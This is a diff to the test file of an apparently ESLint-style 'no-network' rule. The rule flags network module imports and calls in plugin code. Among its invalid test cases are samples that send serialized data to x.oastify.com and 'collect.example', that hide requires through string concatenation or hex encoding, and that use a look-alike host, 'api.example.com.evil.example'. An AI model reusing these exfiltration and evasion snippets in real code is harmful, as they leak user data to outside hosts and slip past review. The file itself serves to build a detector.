@@ -23,11 +23,20 @@ ruleTester.run('no-network', rule, {
     { code: 'fetch("https://api.example.com/v1"); new WebSocket("wss://edge.cdn.example.com/");', ...inDeclaredPlugin },
   ],
   invalid: [
+    // Each call of a network module's functions, and each send on what they return, at its own line, with the host when it folds.
+    {
+      code: 'const https = require("https");\nconst options = { hostname: "x.oastify.com", port: 443 };\nconst req = https.request(options, (res) => {});\nreq.write(JSON.stringify(info));\nreq.end();',
+      ...commonjs,
+      errors: [mod(1, 15, 'https'), { messageId: 'call', line: 3, column: 13, data: { name: 'https.request', target: "'x.oastify.com'", host: 'x.oastify.com' } }, { messageId: 'call', line: 4, column: 1, data: { name: 'https.request.write', target: 'an address not known before run time' } }, { messageId: 'call', line: 5, column: 1 }],
+    },
+    { code: 'import axios from "axios";\naxios.post("https://collect.example/u", data);', errors: [mod(1, 1, 'axios'), { messageId: 'call', line: 2, column: 1, data: { name: 'axios.post', target: "'collect.example'", host: 'collect.example' } }] },
+    { code: 'const h = require("ht" + "tp");\nh["get"](url);\nReflect.apply(h.request, h, [opts]);', ...commonjs, errors: [mod(1, 11, 'http'), { messageId: 'call', line: 2, column: 1 }, { messageId: 'call', line: 3, column: 1 }] },
+    { code: 'const net = require("net");\nconst s = new net.Socket();\nnet.isIP(addr);', ...commonjs, errors: [mod(1, 13, 'net'), { messageId: 'call', line: 2, column: 11, data: { name: 'net.Socket', target: 'an address not known before run time' } }] },
     { code: 'import http from "node:http";', errors: [mod(1, 1, 'http')] },
     { code: 'import { connect } from "tls"; export { lookup } from "dns/promises";', errors: [mod(1, 1, 'tls'), mod(1, 32, 'dns')] },
     { code: 'const net = require("n" + "et");', ...commonjs, errors: [mod(1, 13, 'net')] },
     { code: 'const d = require(Buffer.from("646772616d", "hex").toString());', ...commonjs, errors: [mod(1, 11, 'dgram')] },
-    { code: 'process.mainModule.require("https").get("https://x.example");', ...commonjs, errors: [mod(1, 1, 'https')] },
+    { code: 'process.mainModule.require("https").get("https://x.example");', ...commonjs, errors: [{ messageId: 'call', line: 1, column: 1, data: { name: 'https.get', target: "'x.example'", host: 'x.example' } }, mod(1, 1, 'https')] },
     { code: 'const h2 = await import(`node:${"http"}2`);', errors: [mod(1, 18, 'http2')] },
     { code: 'import axios from "axios"; import got from "got"; import { request } from "undici";', errors: [mod(1, 1, 'axios'), mod(1, 28, 'got'), mod(1, 51, 'undici')] },
     { code: 'const WebSocket = require("ws"); const io = require("socket.io-client");', ...commonjs, errors: [mod(1, 19, 'ws'), mod(1, 45, 'socket.io-client')] },
@@ -49,8 +58,6 @@ ruleTester.run('no-network', rule, {
     // A host the manifest does not declare stays high.
     { code: 'fetch("https://api.example.com.evil.example/");', ...inDeclaredPlugin, errors: [global(1, 1, { name: 'fetch', target: "'api.example.com.evil.example'", host: 'api.example.com.evil.example' })] },
     // Handing fetch to other code.
-    { code: 'const client = createClient({ fetch });', errors: [{ messageId: 'globalPassed', line: 1, column: 31, data: { name: 'fetch' } }] },
-    { code: 'new ApolloLink(globalThis.fetch);', errors: [{ messageId: 'globalPassed', line: 1, column: 16 }] },
   ],
 });
 
